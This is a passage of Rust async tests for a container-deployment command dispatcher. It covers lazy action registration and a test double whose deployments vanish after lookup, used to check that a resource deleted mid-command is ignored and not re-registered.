    assert!(actions.is_registered("b1"));
    assert!(actions.is_registered("d1"));
    assert!(actions.is_registered("s1"));

    // Resources created behind the dispatcher's back are registered lazily
    h.deployments.create(deployment("d9", &["alice"])).await.unwrap();
    completed(
        h.dispatcher
            .dispatch("alice", cmd(Command::StopContainer {
                deployment_id: "d9".to_string(),
            }))
            .await
            .unwrap(),
    );
    assert!(actions.is_registered("d9"));
}

/// Deployments that disappear once they have been looked up
struct VanishingDeployments(MemoryCollection<Deployment>);

#[async_trait]
impl Collection<Deployment> for VanishingDeployments {
    async fn find_by_id(&self, id: &str) -> Result<Option<Deployment>, CoreError> {
        self.0.delete_by_id(id).await
    }

    async fn find(&self, filter: Filter<'_, Deployment>) -> Result<Vec<Deployment>, CoreError> {
        self.0.find(filter).await
    }

    async fn create(&self, item: Deployment) -> Result<Deployment, CoreError> {
        self.0.create(item).await
    }

    async fn update_by_id(&self, id: &str, item: Deployment) -> Result<Option<Deployment>, CoreError> {
        self.0.update_by_id(id, item).await
    }

    async fn delete_by_id(&self, id: &str) -> Result<Option<Deployment>, CoreError> {
        self.0.delete_by_id(id).await
    }
}

#[tokio::test]
async fn test_deleted_resource_not_registered_again() {
    let users = Arc::new(MemoryUsers::new());
    users.insert(user("alice", 1)).await;
    let resources = Resources {
        builds: Arc::new(MemoryCollection::with_items(Vec::<Build>::new())),
        deployments: Arc::new(VanishingDeployments(MemoryCollection::with_items(vec![deployment(
            "d1",
            &["alice"],
        )]))),
        servers: Arc::new(MemoryCollection::with_items(Vec::<Server>::new())),
    };
    let audit_log = Arc::new(MemoryAuditLog::new());
    let executor = Arc::new(MockExecutor::new());
    // d1 is left unregistered so the first command registers it lazily
    let dispatcher = Dispatcher::new(
        resources,
        users,
        ActionRegistry::new(),
        executor.clone(),
        AuditPipeline::new(audit_log.clone(), Arc::new(BroadcastHub::new())),
    );

    // d1 is deleted between the command's lookup and its registration
    let outcome = dispatcher
        .dispatch("alice", cmd(Command::StartContainer {
            deployment_id: "d1".to_string(),
        }))
        .await
        .unwrap();
    assert_eq!(outcome, Outcome::Ignored);
    assert!(!dispatcher.actions().is_registered("d1"));
    assert_eq!(executor.call_count(), 0);
    assert!(audit_log.is_empty().await);
}
